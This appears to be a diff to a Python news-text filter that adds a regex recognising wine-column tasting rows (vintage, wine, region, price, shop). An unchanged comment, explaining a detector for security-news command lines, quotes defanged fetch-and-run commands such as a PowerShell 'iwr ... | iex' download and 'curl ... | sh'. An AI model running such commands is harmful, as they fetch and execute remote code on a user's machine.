@@ -80,6 +80,16 @@ _TABLE_ROW_MAX_CHARACTERS = 60
 # The first characters of a data provider's notice, a terminal's advert, a live blog's pointer and a table's
 # heading: a line that opens on none is spared their patterns.
 _OPENING_CHARACTERS = 4
+# A wine column's tasting row (the twenty-fourth outlets round's Irish News's "2022 Ch. Roc de Bourg, Côtes de
+# Bourg, £14, Waitrose"): the vintage, the wine and its region between commas, its price a comma-part of its
+# own, the shop after it or none, the line whole with no stop; a sentence opening on a year goes on in words
+# ("2022 was the hottest vintage on record, and a bottle now costs £14.").
+_FIRST_VINTAGE = 1990
+_LAST_VINTAGE = 2030
+_TASTING_ROW = re.compile(
+    r"\d{4} [^,]{1,60}(?:, [^,£$€]{1,60}){0,3}, [£$€]\d{1,4}(?:[.,]\d{2})?(?:, [^,.!?]{1,40})?"
+)
+_TASTING_ROW_MAX_CHARACTERS = 140
 # A security desk's command line set between the story's paragraphs, as the attack or the fix runs it
 # (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL https://... |
 # sh", "mshta.exe hxxps://..."): a shell's program in lower case, a switch after it ("-w", "/c", "--rm") or an
@@ -104,6 +114,8 @@ _OPENINGS = frozenset(
         "Siga", "Clas", "Tabe", "Stan", "At t", "Unti", "Cert", "Rate", "In c", "In U", "In I",
         # A command line's programs (:data:`_COMMAND_LINE`), lower case as a shell takes them.
         *(f"{command}{after}"[:_OPENING_CHARACTERS] for command in _COMMANDS for after in " ."),
+        # A wine column's vintages (:data:`_TASTING_ROW`), a line of prose seldom opening on a year.
+        *map(str, range(_FIRST_VINTAGE, _LAST_VINTAGE + 1)),
     )
 )  # fmt: skip
 # A columnist's disclaimer under the column (Breakingviews's "The author is a Reuters Breakingviews
@@ -463,6 +475,12 @@ def is_figures_line(text: str) -> bool:
         # str.startswith of their openings had cost every line 800 instructions.
         if opening in _CULTURE_OPENINGS:
             return _is_culture_line(text, size)
+        if (
+            opening[:1].isdigit()
+            and size <= _TASTING_ROW_MAX_CHARACTERS
+            and _TASTING_ROW.fullmatch(text) is not None
+        ):
+            return True
         if (provider := _DATA_PROVIDER.fullmatch(text)) is not None:
             return _is_a_name(provider["provider"].split())
         if _TERMINAL_AD.fullmatch(lowered := text.lower()) or _LIVE_BLOG_CALL.fullmatch(lowered):
